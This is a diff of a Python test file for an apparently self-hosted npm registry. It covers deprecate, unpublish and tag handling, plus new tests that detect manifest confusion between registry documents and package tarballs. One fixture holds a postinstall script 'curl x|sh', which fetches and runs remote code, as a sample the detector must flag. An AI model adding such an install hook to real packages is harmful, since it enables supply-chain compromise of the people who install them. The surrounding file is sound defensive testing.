@@ -192,7 +192,7 @@ def test_npm_deprecate_writes_the_document_back_with_only_deprecated_changed() -
     sent["versions"]["1.0.0"]["deprecated"] = "use 1.1.0"
     sent["versions"]["1.1.0"]["main"] = "evil.js"  # other edits are ignored
     sent["description"] = "rewritten"
-    new, changes = d.apply_update(doc, sent, T1)
+    new, changes = d.apply_update(doc, sent, T1, unpublish=True)
     assert [(c.event, c.version, c.detail) for c in changes] == [
         ("deprecate", "1.0.0", "use 1.1.0")
     ]
@@ -201,7 +201,7 @@ def test_npm_deprecate_writes_the_document_back_with_only_deprecated_changed() -
     assert new["description"] == doc["description"]
     undo = copy.deepcopy(new)
     undo["versions"]["1.0.0"]["deprecated"] = ""  # npm deprecate pkg@1.0.0 ""
-    back, changes = d.apply_update(new, undo, T1)
+    back, changes = d.apply_update(new, undo, T1, unpublish=True)
     assert "deprecated" not in back["versions"]["1.0.0"]
     assert [c.detail for c in changes] == ["undeprecated"]
 
@@ -211,7 +211,7 @@ def test_npm_unpublish_of_one_version_writes_the_document_back_without_it() -> N
     sent = copy.deepcopy(doc)
     del sent["versions"]["1.1.0"]
     sent["dist-tags"] = {"latest": "1.0.0"}
-    new, changes = d.apply_update(doc, sent, T1)
+    new, changes = d.apply_update(doc, sent, T1, unpublish=True)
     assert [(c.event, c.version) for c in changes] == [("unpublish", "1.1.0")]
     assert list(new["versions"]) == ["1.0.0"]
     assert new["dist-tags"] == {"latest": "1.0.0"}
@@ -224,7 +224,7 @@ def test_a_version_cannot_be_added_by_writing_the_document() -> None:
     with pytest.raises(
         BadRequest, match=re.escape("6.6.6: a new version is published with its tarball")
     ):
-        d.apply_update(doc, sent, T1)
+        d.apply_update(doc, sent, T1, unpublish=True)
 
 
 TAGS = [
@@ -284,10 +284,65 @@ def test_no_function_changes_the_stored_document() -> None:
     sent["versions"]["1.0.0"]["deprecated"] = ""
     sent["versions"]["1.1.0"]["deprecated"] = "use 2"
     del sent["versions"]["1.0.0"]
-    d.apply_update(stored, sent, T1)
+    d.apply_update(stored, sent, T1, unpublish=True)
     d.remove_version(stored, "1.1.0", T1)
     d.set_tag(stored, "beta", "1.0.0", T1)
     d.remove_tag(d.set_tag(stored, "beta", "1.0.0", T1)[0], "beta", T1)
     pub, _ = d.parse_publication(publish_body(NAME.name, clean("2.0.0")), NAME, MB)
     d.apply_publish(stored, pub, NAME, T1)
     assert stored == snapshot
+
+
+CONFUSION = [
+    ("the same", {"dependencies": {"a": "^1"}}, {"dependencies": {"a": "^1"}}, ""),
+    ("an added dependency", {"dependencies": {"evil": "1"}}, {}, "dependencies entry evil@1"),
+    ("another range", {"dependencies": {"a": "^2"}}, {"dependencies": {"a": "^1"}}, "a@^2"),
+    (
+        "optional also listed as a dependency (npm does this)",
+        {"dependencies": {"fsevents": "^2"}, "optionalDependencies": {"fsevents": "^2"}},
+        {"optionalDependencies": {"fsevents": "^2"}},
+        "",
+    ),
+    (
+        "an added install script",
+        {"scripts": {"postinstall": "curl x|sh"}},
+        {},
+        "scripts.postinstall",
+    ),
+    ("npm's node-gyp default", {"scripts": {"install": "node-gyp rebuild"}}, {}, ""),
+    ("a build script only in the document", {"scripts": {"build": "tsc"}}, {}, ""),
+]
+
+
+@pytest.mark.parametrize(
+    ("document", "package_json", "found"), [r[1:] for r in CONFUSION], ids=[r[0] for r in CONFUSION]
+)
+def test_manifest_confusion(
+    document: dict[str, Any], package_json: dict[str, Any], found: str
+) -> None:
+    result = d.manifest_confusion(document, package_json)
+    assert (found in result) if found else result == ""
+
+
+def test_a_document_with_a_dependency_the_tarball_does_not_declare_is_refused() -> None:
+    body = publish_body(NAME.name, clean("1.0.0"))
+    body["versions"]["1.0.0"]["dependencies"] = {"left-pad": "1.0.0"}
+    pub, data = d.parse_publication(body, NAME, MB)
+    with pytest.raises(BadRequest, match="manifest confusion"):
+        d.check_tarball(pub, read_tarball(data))
+
+
+def test_a_write_back_without_versions_or_rev_is_refused_not_read_as_remove_all() -> None:
+    doc = published("1.0.0", "1.1.0")
+    with pytest.raises(BadRequest, match="npm star and npm owner are not supported"):
+        d.apply_update(doc, {"_id": NAME.name, "users": {"x": True}}, T1, unpublish=True)
+    with pytest.raises(BadRequest, match="no _rev"):
+        d.written_rev({"versions": {}}, None)
+    assert d.written_rev({"_rev": "3-a"}, None) == "3-a"
+    assert d.written_rev({"_rev": "3-a"}, "4-b") == "4-b"
+    sent = copy.deepcopy(doc)
+    del sent["versions"]["1.1.0"]
+    with pytest.raises(
+        BadRequest, match=re.escape("1.1.0: versions are removed with npm unpublish")
+    ):
+        d.apply_update(doc, sent, T1, unpublish=False)
